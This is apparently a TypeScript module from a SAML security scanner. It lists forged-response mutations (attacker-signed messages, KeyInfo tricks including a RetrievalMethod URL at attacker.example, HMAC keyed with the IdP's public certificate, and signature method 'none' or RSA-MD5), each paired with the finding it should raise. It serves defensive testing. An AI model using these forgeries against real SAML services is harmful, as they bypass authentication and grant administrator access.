import type { CheckId } from '../../domain/check-ids.ts'
import type { SigningKey } from '../../domain/idp.ts'
import { base64OfPem } from '../../domain/pem.ts'
import { SIGNATURE_METHOD } from '../../domain/saml-names.ts'
import { type Mutation, signsBoth } from '../mutation.ts'
import { bareEvilMessageOf, promote, replace, withoutAssertionSignature, withoutResponseSignature } from './edit.ts'
import { NOT_CONFIGURED, RESPONSE_INVALID, STRUCTURE } from './findings.ts'
import {
  type Forgery,
  forgeBoth,
  forgeSignature,
  forgeWithHmac,
  genuineCertificateOf,
  x509Data,
} from './forge-signature.ts'

const by = ({ privateKey }: SigningKey, keyInfo: Forgery['keyInfo']): Forgery => ({ key: privateKey, keyInfo })
const certificateOf = ({ certificate }: SigningKey) => base64OfPem(certificate)

/** What KeyInfo says about the attacker's key, which made both signatures, and the expected finding. */
const KEY_INFOS: [
  name: string,
  what: string,
  keyInfo: (foreign: string, genuine: string) => string | null,
  finding: CheckId,
][] = [
  ['foreign', 'holds the certificate of the attacker', (foreign) => x509Data(foreign), NOT_CONFIGURED],
  ['genuine', 'holds the certificate of the IdP', (_, genuine) => x509Data(genuine), RESPONSE_INVALID],
  [
    'genuine-then-foreign',
    'holds the certificate of the IdP and then that of the attacker',
    (foreign, genuine) => x509Data(genuine, foreign),
    RESPONSE_INVALID,
  ],
  [
    'foreign-then-genuine',
    'holds the certificate of the attacker and then that of the IdP',
    (foreign, genuine) => x509Data(foreign, genuine),
    NOT_CONFIGURED,
  ],
  ['absent', 'is missing', () => null, NOT_CONFIGURED],
  [
    'retrieval-method',
    'makes the verifier fetch the key',
    () => '<ds:RetrievalMethod URI="http://attacker.example/key.crt"/>',
    NOT_CONFIGURED,
  ],
]

const SIGNED_BY_THE_ATTACKER: Mutation[] = KEY_INFOS.map(([name, what, keyInfo, finding]) => ({
  name: `own-key-and-key-info-${name}`,
  title: `The attacker signs an evil message with their own key, and KeyInfo ${what}.`,
  raises: [finding],
  forge: (xml, attacker) =>
    forgeBoth(bareEvilMessageOf(xml), by(attacker, keyInfo(certificateOf(attacker), genuineCertificateOf(xml)))),
}))

const withMethod = (xml: string, algorithm: string) =>
  replace(promote(xml), /(?<=SignatureMethod Algorithm=")[^"]*/, algorithm)

/** Keys that are not the IdP's, and methods that use public data as a key. */
export const KEYS: readonly Mutation[] = [
  ...SIGNED_BY_THE_ATTACKER,
  {
    name: 'foreign-assertion-in-genuine-response',
    title: 'The evil assertion has a foreign signature, and the genuine signature of the Response is left in place.',
    raises: [NOT_CONFIGURED],
    unfit: signsBoth,
    forge: (xml, attacker) =>
      forgeSignature(
        promote(withoutAssertionSignature(xml)),
        'Assertion',
        by(attacker, x509Data(certificateOf(attacker))),
      ),
  },
  {
    name: 'foreign-response-around-genuine-assertion',
    title: 'The genuine signed assertion is sent in a Response that the attacker signed.',
    raises: [NOT_CONFIGURED],
    unfit: signsBoth,
    forge: (xml, attacker) =>
      forgeSignature(withoutResponseSignature(xml), 'Response', by(attacker, x509Data(certificateOf(attacker)))),
  },
  {
    name: 'hmac-with-certificate-as-secret',
    title: 'Response and assertion are signed with HMAC-SHA1, with the public certificate of the IdP as the secret.',
    raises: [STRUCTURE],
    forge: (xml) => forgeWithHmac(bareEvilMessageOf(xml), genuineCertificateOf(xml)),
  },
  {
    name: 'signature-method-none',
    title: "The signature method of the Response is 'none', and the user becomes an administrator.",
    raises: [STRUCTURE],
    forge: (xml) => withMethod(xml, 'none'),
  },
  {
    name: 'signature-method-md5',
    title: 'The signature method of the Response is RSA-MD5, and the user becomes an administrator.',
    raises: [STRUCTURE],
    forge: (xml) => withMethod(xml, SIGNATURE_METHOD.rsaMd5),
  },
]
